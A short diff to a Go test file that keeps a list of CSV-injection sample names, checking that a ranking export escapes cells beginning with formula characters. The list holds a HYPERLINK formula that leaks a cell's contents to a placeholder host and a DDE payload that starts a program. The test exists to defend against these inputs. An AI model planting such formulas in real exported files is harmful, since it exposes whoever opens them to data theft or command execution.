@@ -14,7 +14,10 @@ import (
 )
 
 // formulas are names a spreadsheet would run (OWASP's CSV injection).
-var formulas = []string{`=HYPERLINK("http://x?"&A1,"c")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`, "\t=1+1", "\r=1+1"}
+// Names led by a tab or a carriage return, the other two, are refused at
+// the door now (field.control_char); web/csvsafe's tests keep those cells
+// escaped.
+var formulas = []string{`=HYPERLINK("http://x?"&A1,"c")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`}
 
 // TestRankingCSVRunsNoFormula: entries named like formulas, imported from
 // a ranking file, approved and published, download as cells that start
